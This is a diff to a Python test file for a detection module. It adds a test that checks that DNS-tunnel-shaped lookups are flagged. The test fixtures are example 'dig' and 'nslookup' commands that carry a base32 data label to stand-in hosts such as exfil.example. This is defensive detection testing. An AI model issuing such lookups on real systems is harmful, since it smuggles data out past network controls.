@@ -256,3 +256,14 @@ def test_conntrack_events() -> None:
     t = detect.suspicious_connection(c, CTX)
     assert t is not None and t.level == "critical"
     assert parse_event("[DESTROY] tcp 6 src=1.2.3.4") is None
+
+
+def test_dns_tunnel_shaped_lookups_and_tmp_usage() -> None:
+    label = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3e"  # base32 of data
+    for cmd in (f"dig {label}.exfil.example", f"nslookup -type=txt {label}.x.example"):
+        t = detect.dns_tunnel(proc(cmd))
+        assert t is not None and t.level == "warning" and t.category == "dns", cmd
+    assert detect.dns_tunnel(proc("dig registry.npmjs.org")) is None
+    assert detect.dns_tunnel(proc(f"echo {label}.example")) is None
+    assert detect.tmp_usage(90, 100) is not None
+    assert detect.tmp_usage(50, 100) is None and detect.tmp_usage(0, 0) is None
